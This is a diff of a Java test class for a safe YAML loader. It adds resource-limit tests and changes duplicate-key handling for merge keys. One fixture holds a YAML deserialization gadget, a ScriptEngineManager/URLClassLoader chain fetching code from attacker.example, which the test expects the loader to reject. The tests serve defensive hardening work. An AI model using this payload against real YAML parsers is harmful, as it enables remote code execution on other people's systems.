@@ -238,6 +238,51 @@ class SafeYamlLoaderTest {
         assertEquals("domain", problem.yamlPath());
     }
 
+    @Test
+    void aLongKeyIsShortenedInThePathsBelowIt() {
+        String key = "k".repeat(500);
+        YamlProblem problem = documentProblem(load("? " + key + "\n: {b: 1, b: 2}\n"));
+        assertEquals("k".repeat(YamlPaths.LONGEST_KEY) + "….b", problem.yamlPath());
+        assertEquals(
+                "x".repeat(79) + "…",
+                YamlPaths.key("x".repeat(79) + "\uD83D\uDE00" + "x".repeat(20)),
+                "a surrogate pair is not split");
+        assertEquals("x".repeat(80), YamlPaths.key("x".repeat(80)));
+    }
+
+    /** A 2 MB file can repeat a key hundreds of thousands of times; each problem costs its message and path. */
+    @Test
+    void aFileRecordsAtMostTenThousandProblemsOverAllItsDocuments() {
+        StringBuilder yaml = new StringBuilder("a: 0\n");
+        for (int i = 0; i < 6_000; i++) {
+            yaml.append("a: ").append(i).append('\n');
+        }
+        String document = yaml.toString();
+        LoadedFile file = load(document + "---\n" + document + "---\n" + document);
+        assertEquals(
+                List.of(6_000, 4_000, 0),
+                file.documents().stream().map(d -> d.problems().size()).toList());
+        assertEquals(LoadLimits.MAX_PROBLEMS_PER_FILE, 10_000);
+        YamlProblem last = file.documents().get(1).problems().get(3_999);
+        assertEquals(10_003, last.position().line(), "the first problems are the ones kept");
+    }
+
+    /** A key that is an alias to a long scalar is quoted at full length in each duplicate-key message. */
+    @Test
+    void theTextOfAFilesProblemsIsBoundedToo() {
+        StringBuilder yaml = new StringBuilder("long: &k " + "v".repeat(100_000) + "\nm:\n");
+        for (int i = 0; i < 1_000; i++) {
+            yaml.append("  *k : ").append(i).append('\n');
+        }
+        List<YamlProblem> problems = load(yaml.toString()).documents().get(0).problems();
+        long characters = problems.stream()
+                .mapToLong(p -> p.message().length() + p.yamlPath().length())
+                .sum();
+        assertTrue(characters <= LoadLimits.MAX_PROBLEM_CHARACTERS_PER_FILE + 200_000, "characters " + characters);
+        assertTrue(problems.size() >= 40 && problems.size() < 50, "problems " + problems.size());
+        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problems.get(0).kind());
+    }
+
     // --- merge keys ---
 
     @Test
@@ -250,13 +295,16 @@ class SafeYamlLoaderTest {
                   <<: *base
                   region: us-east-1
                 """));
+        // YAML lets the explicit key win; the installer's strict parse (yaml.v2) calls it a duplicate.
+        List<YamlProblem> problems = load("base: &base\n  a: 1\nchild:\n  <<: *base\n  a: 2\n")
+                .documents()
+                .get(0)
+                .problems();
+        assertEquals(1, problems.size(), problems::toString);
+        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problems.get(0).kind());
         assertTrue(
-                load("base: &base\n  a: 1\nchild:\n  <<: *base\n  a: 2\n")
-                        .documents()
-                        .get(0)
-                        .problems()
-                        .isEmpty(),
-                "an explicit key beside a merge is not a duplicate");
+                problems.get(0).message().contains("at line 2 and at line 5"),
+                problems.get(0).message());
         YamlMapping s3 = root.mapping("s3storage").orElseThrow();
         assertEquals("us-east-1", s3.text("region").orElseThrow());
         assertEquals("shared", s3.text("bucket").orElseThrow());
@@ -282,9 +330,9 @@ class SafeYamlLoaderTest {
     @Test
     void globalCustomTagIsASyntaxProblemWithItsPosition() {
         LoadedFile file = load("""
-                domain: gitpod.example.com
-                exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
-                """);
+            domain: gitpod.example.com
+            exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
+            """);
         YamlProblem problem = fileProblem(file);
         assertAt(problem, 2, 10);
         assertTrue(problem.message().contains("tag"), problem.message());
